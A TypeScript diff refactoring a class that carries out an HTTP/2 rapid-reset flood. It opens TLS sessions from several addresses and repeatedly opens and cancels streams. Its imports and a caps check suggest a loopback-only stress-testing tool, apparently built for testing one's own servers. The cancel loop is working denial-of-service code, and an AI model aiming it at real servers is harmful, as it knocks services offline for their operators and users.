@@ -1,4 +1,6 @@
 import { type ClientHttp2Session, connect, constants } from 'node:http2'
+import type { Socket } from 'node:net'
+import { TLSSocket } from 'node:tls'
 import type { ResetFlood } from './attack.js'
 import { type AttackReport, emptyReport } from './attack-report.js'
 import type { AttackMoment } from './attack-timeline.js'
@@ -7,15 +9,14 @@ import type { Attacking } from './attacking.js'
 import { BackOff } from './back-off.js'
 import { assertWithinCaps } from './caps.js'
 import { addressesOf } from './loopback-address.js'
-import { connectionsLeft } from './open-loopback.js'
+import { connectionsLeft, openLoopback } from './open-loopback.js'
 import { Pacer } from './pacer.js'
 import type { Target } from './target.js'
-import { openTls } from './tls-loopback.js'
 
 /** One attacking address with its one connection. */
 interface Resetter {
   address: string
-  socket: { destroy(): void } | null
+  socket: Socket | null
   session: ClientHttp2Session | null
   backOff: BackOff
 }
@@ -30,6 +31,7 @@ export class ResetFlooding implements Attacking {
   readonly #resetters: Resetter[]
   readonly #pacer: Pacer
   readonly #authority: string
+  #asked = 0
   #turn = 0
   #open = 0
   #stopped = false
@@ -84,7 +86,7 @@ export class ResetFlooding implements Attacking {
       this.#turn = (this.#turn + 1) % this.#resetters.length
       const session = this.#resetters[this.#turn]?.session
       if (!session || session.closed || session.destroyed) continue
-      const stream = session.request({ ':path': `/?n=${this.#report.sent}`, ':authority': this.#authority })
+      const stream = session.request({ ':path': `/?n=${this.#asked++}`, ':authority': this.#authority })
       // Why it ended is plain: we have ended it.
       stream.on('error', () => {})
       stream.close(constants.NGHTTP2_CANCEL)
@@ -97,26 +99,27 @@ export class ResetFlooding implements Attacking {
   #openOne(resetter: Resetter): void {
     this.#open++
     this.#report.open = Math.max(this.#report.open, this.#open)
-    resetter.socket = openTls(
-      this.#target,
-      { from: resetter.address, protocols: ['h2'] },
-      (tls) => {
-        if (tls.alpnProtocol !== 'h2') return void tls.destroy()
-        const session = connect(`https://${this.#authority}`, { createConnection: () => tls })
-        session.on('error', () => {})
-        session.once('goaway', () => session.destroy())
-        session.once('close', () => tls.destroy())
-        resetter.session = session
-      },
-      (reached) => {
-        this.#open--
-        resetter.socket = null
-        resetter.session = null
-        resetter.backOff.failed(Date.now())
-        if (this.#stopped) return
-        if (reached) this.#report.cutOff++
-        else this.#report.notConnected++
-      },
-    )
+    let reached = false
+    const socket = openLoopback(this.#target, { from: resetter.address, secure: { protocols: ['h2'] } }, () => {
+      reached = true
+      if (!(socket instanceof TLSSocket) || socket.alpnProtocol !== 'h2') return void socket.destroy()
+      const session = connect(`https://${this.#authority}`, { createConnection: () => socket })
+      session.on('error', () => {})
+      session.once('goaway', () => session.destroy())
+      session.once('close', () => socket.destroy())
+      resetter.session = session
+    })
+    resetter.socket = socket
+    // Why does not matter: 'close' follows and is counted.
+    socket.on('error', () => {})
+    socket.once('close', () => {
+      this.#open--
+      resetter.socket = null
+      resetter.session = null
+      resetter.backOff.failed(Date.now())
+      if (this.#stopped) return
+      if (reached) this.#report.cutOff++
+      else this.#report.notConnected++
+    })
   }
 }
